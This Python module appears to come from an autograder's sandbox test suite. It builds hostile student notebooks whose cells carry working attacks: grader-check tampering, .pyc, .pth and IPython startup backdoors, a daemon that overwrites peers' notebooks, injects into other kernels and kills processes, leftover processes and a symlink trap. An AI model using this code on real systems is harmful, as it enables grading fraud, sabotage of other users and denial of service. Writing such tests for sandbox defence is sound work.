"""Hostile notebooks for the grader's sandbox tests, one per finding class of the
December 2026 report (../shared/reviews/grader-2026-12.md).

Each is the exercise-3 student release (or the solution) with one cell of attack
code run right after the imports. Every attack is real: run without the sandbox
it does what the report describes (edits the checks, plants a ``.pyc`` or a
``.pth``, kills or stops the grader, reaches the other kernels and notebooks,
leaves processes behind, lays a symlink trap for the cleanup). The code never
raises, so the notebook goes on and is graded for what it computes.

Should the sandbox ever fail, the attacks that reach beyond the grader's own
files only hit what carries the test run's MARK (in its environment or its
path), so a failing test cannot harm other programs on the machine; the test
restores the grader's files afterwards.
"""

from __future__ import annotations

from pathlib import Path

from nbformat import NotebookNode
from submissions import Release, inject

# What the attacks may touch, should the sandbox fail: processes whose environment holds
# the run's MARK, files whose path holds it (the test's folders are named after it).
MARKED = r'''
import os
MARK = "{mark}"
def marked_processes():
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and MARK.encode() in open(f"/proc/{entry}/environ", "rb").read():
                found.append(int(entry))
        except Exception:
            pass
    return found
def files(suffix):
    for top in ("/tmp", "/root", "/home", "/work", "/var/tmp"):
        for folder, dirs, names in os.walk(top):
            dirs[:] = [d for d in dirs if not d.startswith(".") and d != "site-packages"]
            for name in names:
                path = os.path.join(folder, name)
                if name.endswith(suffix) and MARK in path:
                    yield path
'''

# 1. Change the grader's own checks and data, for everyone and for later runs (c03-c05, c40),
#    and the grader's virtualenv (c40, %pip); touch the source so the run would notice.
TAMPER_GRADER = r'''
import importlib._bootstrap_external as bootstrap, os, pathlib, site, sys
import vnsmartcity
package = pathlib.Path(vnsmartcity.__file__).parent
source = package / "checks" / "ex3.py"
PASS_ALL = ("\nfrom vnsmartcity.check import spec as _spec\n"
            "for _q in list(_spec._REGISTRY.values()):\n"
            "    object.__setattr__(_q, 'test', lambda answer: None)\n")
def attempt(action):
    try:
        action()
    except Exception:
        pass
def plant_pyc():
    info = source.stat()
    code = compile(source.read_text() + PASS_ALL, str(source), "exec")
    target = package / "checks" / "__pycache__" / f"ex3.{sys.implementation.cache_tag}.pyc"
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(bytes(bootstrap._code_to_timestamp_pyc(code, info.st_mtime, info.st_size)))
def plant_pth():
    folder = pathlib.Path(site.getsitepackages()[0])
    (folder / "zzz_rt_backdoor.pth").write_text(
        "import vnsmartcity.check.outcome as o; o.evaluate = lambda q, a: None\n")
    (folder / "vnsmartcity_shadow").mkdir()
attempt(lambda: source.open("a").write(PASS_ALL))
attempt(plant_pyc)
attempt(lambda: (package / "data" / "facts.csv").open("a").write("vn_ioc,999\n"))
attempt(plant_pth)
attempt(lambda: os.utime(source))
'''

# 2. Reach the classmates (c06-c08, c15, c16, c41): a detached daemon looks for other
#    notebooks (to copy, overwrite, delete), for other kernels' connection files (to inject
#    code) and for any process (to kill); the kernel writes an IPython startup file.
REACH_PEERS = MARKED + r'''
import pathlib, signal, time
for profile in [os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython"),
                "/root/.ipython"]:
    try:
        startup = pathlib.Path(profile) / "profile_default" / "startup"
        startup.mkdir(parents=True, exist_ok=True)
        (startup / f"00-backdoor-{MARK}.py").write_text(
            f"import os\nif os.environ.get('VNSC_TEST_MARK') == '{MARK}':\n"
            "    province_counts = ioc_per_scheme = nonbudget_range = None\n")
    except Exception:
        pass
mine, kernel = str(pathlib.Path.cwd()), os.getpid()
def haunt():
    from jupyter_client import BlockingKernelClient
    end = time.time() + 60
    while time.time() < end:
        for path in files(".ipynb"):
            if not path.startswith(mine):
                try:
                    pathlib.Path(path).write_text("{}")
                except Exception:
                    pass
        for path in files(".json"):
            try:
                client = BlockingKernelClient(connection_file=path)
                client.load_connection_file()
                client.start_channels()
                client.execute("province_counts = ioc_per_scheme = nonbudget_range = None")
            except Exception:
                pass
        for pid in marked_processes():
            if pid not in (os.getpid(), kernel, 1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except Exception:
                    pass
        time.sleep(0.3)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            haunt()
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(3)  # let the daemon do its work while the others are graded
'''

# 3. Stop the class (c09-c12): SIGSTOP then SIGKILL every process in sight but itself,
#    its parent first (the grader's worker, without the sandbox), and the grader by name.
STOP_CLASS = MARKED + r'''
import signal
def send(pid, sig):
    try:
        os.kill(pid, sig)
    except Exception:
        pass
others = [pid for pid in marked_processes() if pid != os.getpid()]
for sig in (signal.SIGSTOP, signal.SIGKILL):
    send(os.getppid(), sig)
    for pid in others:
        send(pid, sig)
'''

# 4. Outlive the notebook (c22, c34, c38, c42): 30 detached sleepers in new sessions, two
#    threads that burn CPU, and a flood of widget messages for the grader to store.
LEAVE_PROCESSES = r'''
import os, subprocess, threading
for _ in range(30):
    subprocess.Popen(["sleep", "240"], start_new_session=True)
def burn():
    while True:
        pass
for _ in range(2):
    threading.Thread(target=burn, daemon=True).start()
import comm
for number in range(20):
    comm.create_comm(target_name="jupyter.widget", data={"state": {"blob": "x" * 2**20}})
'''

# 5. Lay a trap for the cleanup (c37): a link from the work folder to a folder outside,
#    next to a folder the kernel made unreadable (so the cleanup has to change modes).
SYMLINK_TRAP = r'''
import os
os.symlink("{outside}", "outside-link")
os.mkdir("locked")
os.symlink("{outside}", "locked/outside-link")
os.chmod("locked", 0)
'''


def build(release: Release, outside: Path, mark: str) -> dict[str, NotebookNode]:
    """Student id -> notebook: the hostile students, each built on the release or solution."""
    def code(text: str) -> str:
        return text.replace("{mark}", mark).replace("{outside}", str(outside))

    return {
        "h1tamper": inject(release.student(), code(TAMPER_GRADER)),
        "h2peers": inject(release.student(), code(REACH_PEERS)),
        "h3stopper": inject(release.solution(), code(STOP_CLASS), after="3.1"),
        "h4leaks": inject(release.student(), code(LEAVE_PROCESSES)),
        "h5symlink": inject(release.student(), code(SYMLINK_TRAP)),
    }
